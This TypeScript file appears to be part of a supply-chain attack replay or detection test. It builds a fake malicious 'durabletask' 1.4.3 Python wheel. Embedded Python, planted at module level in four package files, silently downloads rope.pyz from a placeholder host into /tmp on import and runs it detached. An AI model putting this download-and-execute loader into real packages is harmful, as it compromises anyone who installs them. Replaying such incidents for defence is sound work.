import { beforeAttack, type Draft, type Remote, type Replay, siteIn } from './incident.ts';
import { tasksLibrary } from './libraries/tasks.ts';
import { browserDriver } from './look-alikes/downloads.ts';
import { py } from './python-text.ts';

const CODE = (c: Remote): string => py`
import os
import platform
import subprocess
import urllib.request

if platform.system() == "Linux":
    try:
        urllib.request.urlretrieve("${c.url('/rope.pyz')}", "/tmp/managed.pyz")
        with open(os.devnull, "w") as f:
            subprocess.Popen(["python3", "/tmp/managed.pyz"], stdout=f, stderr=f, stdin=f, start_new_session=True)
    except:
        pass
`;

function malicious(c: Remote): Draft {
  const files = tasksLibrary();
  return {
    kind: 'wheel',
    name: 'durabletask',
    version: '1.4.3',
    files,
    sites: [
      'durabletask/__init__.py',
      'durabletask/task.py',
      'durabletask/worker.py',
      'durabletask/entities/__init__.py',
    ].map((path) => siteIn(files, path, CODE(c))),
  };
}

export const DURABLETASK: Replay = {
  id: '22-durabletask',
  title: 'durabletask 1.4.3: rope.pyz fetched and started at module level of four files',
  source: 'https://github.com/microsoft/durabletask-python/issues/137',
  runs: 'import on Linux downloads rope.pyz to /tmp and starts it with python3 in a new session',
  remote: 'https://check.git-service.invalid',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '1.4.0'),
  lookAlikes: () => [browserDriver()],
};
